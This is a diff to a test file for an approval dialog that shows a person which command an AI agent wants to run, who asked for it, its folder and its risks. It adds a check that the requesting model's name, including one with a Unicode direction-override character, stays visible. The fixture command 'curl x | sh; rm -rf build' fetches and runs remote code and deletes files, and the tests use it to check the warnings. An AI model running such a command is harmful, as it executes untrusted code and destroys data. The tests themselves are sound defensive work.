@@ -43,11 +43,14 @@ def box_text(world: DialogWorld) -> str:
 
 async def test_it_shows_who_what_where_and_how_long(world: DialogWorld, until: Until) -> None:
     findings = (Finding(code="network", detail="curl"), Finding(code="deletes", detail="rm -rf build", severe=True))
-    request = approval({"command": "curl x | sh; rm -rf build"}, findings=findings, title="旅行计划")
+    request = approval(
+        {"command": "curl x | sh; rm -rf build"}, findings=findings, title="旅行计划", model="qwen3:8b\u202ex"
+    )
     dialog = await shown(world, until, request)
     assert world.text("headline") == "Run a command"
     assert world.text("subline") == "execute_command_local · command server (built in)"
     assert box_text(world) == "curl x | sh; rm -rf build"
+    assert world.text("fact_model") == "Asked for by: qwen3:8b<U+202E>x"
     assert world.text("fact_folder") == "Folder: /home/mei/工作 space"
     assert world.text("fact_timeout") == "Time limit: 10 seconds"
     assert "No sandbox" in world.text("fact_sandbox")
@@ -525,12 +528,12 @@ async def test_a_jump_over_red_warnings_does_not_count_as_seeing_them(world: Dia
     dialog.take_back()
 
 
-async def test_folder_and_sandbox_never_scroll_away(world: DialogWorld, until: Until) -> None:
+async def test_who_asks_the_folder_and_the_sandbox_never_scroll_away(world: DialogWorld, until: Until) -> None:
     many = tuple(Finding(code=f"made_up_{number}", detail="x") for number in range(40))
-    request = approval({"command": "\n".join(["true"] * 60)}, findings=many)
+    request = approval({"command": "\n".join(["true"] * 60)}, findings=many, model="m")
     dialog = await shown(world, until, request, armed=False)
     dialog.resize(dialog.width(), dialog.minimumSizeHint().height())
-    for name in ("fact_folder", "fact_sandbox"):
+    for name in ("fact_model", "fact_folder", "fact_sandbox"):
         label = world.find(QLabel, name)
         assert not world.find(QScrollArea, "approval_details").isAncestorOf(label)
         assert label.visibleRegion().boundingRect() == label.rect()
